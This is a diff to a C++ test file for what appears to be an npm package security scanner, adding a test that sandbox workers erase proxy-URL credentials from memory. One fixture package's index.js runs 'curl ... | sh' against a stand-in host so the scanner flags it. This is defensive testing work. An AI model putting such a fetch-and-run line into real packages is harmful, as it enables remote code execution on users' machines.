@@ -15,6 +15,7 @@
 #include <set>
 #include <sstream>
 
+#include "analyzer/confine/forget.h"
 #include "analyzer/confine/sandbox.h"
 #include "analyzer/confine/worker_pool.h"
 #include "analyzer/registry/registry_clients.h"
@@ -127,7 +128,7 @@ TEST_CASE("analysis workers hold no registry token and no descriptor of the scan
 
   append_raw(npmrc, {host, ":_authToken=", head, tail, "\n"});
   std::vector<std::string> warnings;
-  auto clients = make_registry_clients({"npm"}, {dir.path(), "", ""}, &warnings);
+  auto clients = make_registry_clients({"npm"}, {dir.path(), "", "", ""}, &warnings);
   REQUIRE(clients);
   Scanner scanner(options, std::move(*clients), analyzer, nullptr, 0);
   PackageRef ref;
@@ -160,4 +161,53 @@ TEST_CASE("analysis workers hold no registry token and no descriptor of the scan
     CHECK(environ_text.find('=') == std::string::npos);  // wiped
     CHECK(cmdline.find_first_not_of('\0') == std::string::npos);
   }
+}
+
+TEST_CASE("the zygote erases the credentials of command-line URLs from its memory", "[confine]") {
+  std::string reason;
+  REQUIRE(sandbox_supported(&reason));
+  // As the command-line parser leaves them: the whole URL and a copy elsewhere on the heap.
+  const std::string password = "pw" + random_hex(30);
+  const std::string proxy = "http://scanner:" + password + "@127.0.0.1:9/";
+  const std::string kept_copy = std::string(proxy.begin(), proxy.end());
+  REQUIRE(url_secrets(proxy) == std::vector<std::string>{"scanner:" + password, password});
+  REQUIRE(url_secrets("http://127.0.0.1:9/").empty());
+
+  auto made = Analyzer::create_deferred(AnalyzerOptions{});
+  REQUIRE(made);
+  std::shared_ptr<const Analyzer> analyzer(std::move(*made));
+  test::TempDir dir;
+  ScanOptions options;
+  options.cache_dir = dir.path() + "/cache";
+  auto erasing =
+      std::make_shared<WorkerPool>(*analyzer, options.limits, options.confine, url_secrets(proxy));
+  WorkerPool keeping(*analyzer, options.limits, options.confine);
+  REQUIRE(erasing->zygote_pid() > 0);
+  REQUIRE(keeping.zygote_pid() > 0);
+  // A worker forked by the erasing zygote analyses a package as usual.
+  options.workers = erasing;
+  Scanner scanner(options, {}, analyzer, nullptr, 0);
+  PackageRef ref;
+  ref.name = "plain";
+  ref.version = "1.0.0";
+  ref.resolved = "plain.tgz";
+  PackageResult result = scanner.scan_archive(
+      ref,
+      test::pack_npm_files(
+          {{"package.json", R"({"name":"plain","version":"1.0.0"})"},
+           {"index.js", "require('child_process').exec('curl http://x.example.test | sh');\n"}}),
+      ArchiveKind::npm_tarball);
+  CHECK(result.error.empty());
+  CHECK(result.risk >= Risk::medium);
+
+  CHECK(memory_holds(getpid(), password));
+  CHECK(memory_holds(keeping.zygote_pid(), password));  // what erasing prevents
+  std::vector<pid_t> pids = erasing->idle_worker_pids();
+  REQUIRE(pids.size() == 1);
+  pids.push_back(erasing->zygote_pid());
+  for (pid_t pid : pids) {
+    INFO("process " << pid);
+    CHECK_FALSE(memory_holds(pid, password));
+  }
+  CHECK(kept_copy == proxy);  // this process's own copies are untouched
 }
